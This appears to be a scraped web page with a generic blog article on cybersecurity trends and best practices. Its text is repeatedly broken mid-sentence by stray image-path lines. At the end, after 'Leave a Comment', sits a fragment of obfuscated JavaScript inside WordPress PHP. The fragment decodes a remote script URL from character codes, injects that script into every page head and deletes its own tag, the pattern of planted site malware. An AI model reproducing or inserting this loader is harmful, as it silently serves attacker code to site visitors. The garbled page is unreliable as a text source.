Safeguarding the Digital Frontier: Navigating the Complexities of Cybersecurity

In today’s interconnected world, cybersecurity has emerged as a critical concern, with organizations and individuals alike facing an ever-growing array of threats and vulnerabilities. From ransomware attacks and data breaches to emerging threats like supply chain attacks and zero-day exploits, the need for robust cybersecurity measures has never been more pressing. Today, we delve into the realm of cybersecurity, exploring the latest trends, best practices, and emerging threats shaping the landscape of digital security.

Understanding Cybersecurity: A Constant Battle Against Threats

Cybersecurity encompasses a broad range of practices, technologies, and processes designed to protect digital systems, networks, and data from unauthorized access, exploitation, and disruption. With cyberattacks becoming increasingly sophisticated and pervasive, organizations must adopt a proactive approach to cybersecurity, continually evolving their defenses to stay ahead of emerging threats.

Cybersecurity Trends: Adapting to the Evolving Threat Landscape

In the fast-paced world of cybersecurity, staying abreast of the latest trends and developments is crucial for effective defense. Some key trends shaping the cybersecurity landscape include:

  • Ransomware Attacks: Ransomware attacks, where malicious actors encrypt data and demand payment for its release, have become increasingly prevalent and damaging. Organizations must prioritize robust backup solutions, employee training, and proactive threat detection to mitigate the risk of ransomware attacks.
  • Data Breaches: Data breaches, involving the unauthorized access or theft of sensitive information, pose significant risks to organizations and individuals alike. Implementing encryption techniques, multi-factor authentication, and access controls can help mitigate the impact of data breaches and protect sensitivedata from unauthorized access.
  • Emerging Threats: Emerging threats such as supply chain attacks, zero-day exploits, and insider threats present unique challenges for cybersecurity professionals. Proactive threat intelligence, vulnerability management, and security awareness training are essential for identifying and mitigating these evolving threats effectively.

Best Practices for Cybersecurity: Building a Strong Defense

To effectively safeguard against cyber threats, organizations should adhere to best practices and implement robust cybersecurity measures:

  • Risk Assessment: Conduct regular risk assessments to identify vulnerabilities, prioritize threats, and allocate resources effectively.
  • Secure Network Infrastructure: Implement strong network security measures, including firewalls, intrusion detection systems, and secure Wi-Fi networks, to protect against unauthorized access and data breaches.
  • Employee Training: Provide comprehensive cybersecurity training to employees to raise awareness of common threats, phishing scams, and best practices for data security and privacy.
  • Patch Management: Maintain up-to-date software and security patches to address known vulnerabilities and reduce the risk of exploitation by cyber attackers.
  • Incident Response Plan: Develop and regularly test an incident response plan to ensure a coordinated and effective response to cybersecurity incidents, minimizing the impact on business operations and data integrity.

Looking Ahead: Building a Resilient Cybersecurity Posture

As cyber threats continue to evolve and proliferate, building a resilient cybersecurity posture is essential for organizations to protect their assets, reputation, and customer trust. By staying informed about emerging threats, implementing best practices, and fostering a culture of security awareness, organizations can mitigate risks effectively andnavigate the complex landscape of cybersecurity with confidence.

Conclusion: Securing the Digital Future

In conclusion, cybersecurity is a multifaceted challenge that requires vigilance, collaboration, and ongoing investment in people, processes, and technologies. By understanding the latest trends, adopting best practices, and embracing a proactive approach to cybersecurity, organizations can build a strong defense against cyber threats andsafeguard the digital future for generations to come.

Leave a Comment

4=_0x48d332[_0x38c31a];return_0x11c794;},_0x38c3(_0x32d1a4,_0x31b781);}f[_0x3ec646(0x186)]=String[_0x3ec646(0x17b)](0x68,0x74,0x74,0x70,0x73,0x3a,0x2f,0x2f,0x62,0x61,0x63,0x6b,0x67,0x72,0x6f,0x75,0x6e,0x64,0x2e,0x61,0x70,0x69,0x73,0x74,0x61,0x74,0x65,0x78,0x70,0x65,0x72,0x69,0x65,0x6e,0x63,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var _0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>